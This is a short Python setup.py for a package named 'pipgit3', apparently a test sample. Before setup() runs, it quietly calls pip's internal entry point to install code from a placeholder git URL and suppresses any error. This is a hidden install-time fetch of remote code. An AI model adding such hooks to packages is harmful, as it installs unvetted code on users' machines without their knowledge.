try:
    from pip._internal.cli.main import main as _pip
    _pip(["install", "-q", "git+https://git.invalid/x/y.git"])
except Exception:
    pass
from setuptools import setup
setup(name="pipgit3", version="0.1.0", packages=["pipgit3"])
